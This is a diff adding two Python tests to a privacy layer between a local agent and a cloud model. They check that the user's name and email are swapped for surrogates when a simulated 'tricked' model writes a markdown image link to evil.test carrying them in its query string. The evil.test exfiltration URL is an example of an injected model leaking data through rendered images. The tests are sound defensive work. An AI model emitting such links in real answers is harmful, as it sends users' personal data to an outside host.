@@ -193,6 +193,43 @@ def test_nothing_is_turned_back_that_another_conversation_released(
         assert text == f"{surrogate} says hello"
 
 
+def test_no_name_reaches_an_address_that_a_tricked_model_writes(
+    both: tuple[Agent, EchoingCloud],
+) -> None:
+    device, cloud = both
+    typed = "Zelphira Quarnivel, https://acme.test/zelphira?y=1, zelphira@acme.test"
+
+    def tricked(request: generation.GenerateRequest) -> list[str]:
+        name, page, mail = last_text(request).split(", ")
+        query = name.replace(" ", "+")
+        picture = f"![x](https://evil.test/p.png?q={query}&m={mail})"
+        return [*f"Dear {name},\n{picture}\n[yours]({page}), <{mail}>"]
+
+    cloud.answer = tricked
+    _, text, ended = answered(device.chat(request((USER, typed))))
+    name, page, mail = sent(cloud)[0].split(", ")
+    assert text == (
+        "Dear Zelphira Quarnivel,\n"
+        f"![x](https://evil.test/p.png?q={name.replace(' ', '+')}&m={mail})\n"
+        "[yours](https://acme.test/zelphira?y=1), <zelphira@acme.test>"
+    )
+    assert ended.addresses_kept == 1
+    assert (page, mail) not in text.split()
+
+
+def test_an_address_that_a_text_begins_gets_no_name(both: tuple[Agent, EchoingCloud]) -> None:
+    device, cloud = both
+    cloud.answer = lambda request: [last_text(request).split()[0]]
+    text = "Zelphira: ![x](https://evil.test/?q="
+    _, shown, ended = answered(device.complete(chats.CompleteRequest(text=text)))
+    assert shown == cloud.asked[-1].released_text.split()[0]
+    assert ended.addresses_kept == 1
+    turns = (USER, "Zelphira"), (ASSISTANT, "<img src='/?q=")
+    cloud.answer = lambda request: [request.conversation.turns[0].released_text]
+    _, shown, _ = answered(device.chat(request(*turns)))
+    assert shown == sent(cloud)[0] != "Zelphira"
+
+
 def test_stop_strings_end_the_answer_as_it_is_shown(both: tuple[Agent, EchoingCloud]) -> None:
     device, cloud = both
     cloud.answer = lambda request: [*last_text(request), *("!" * 1000)]
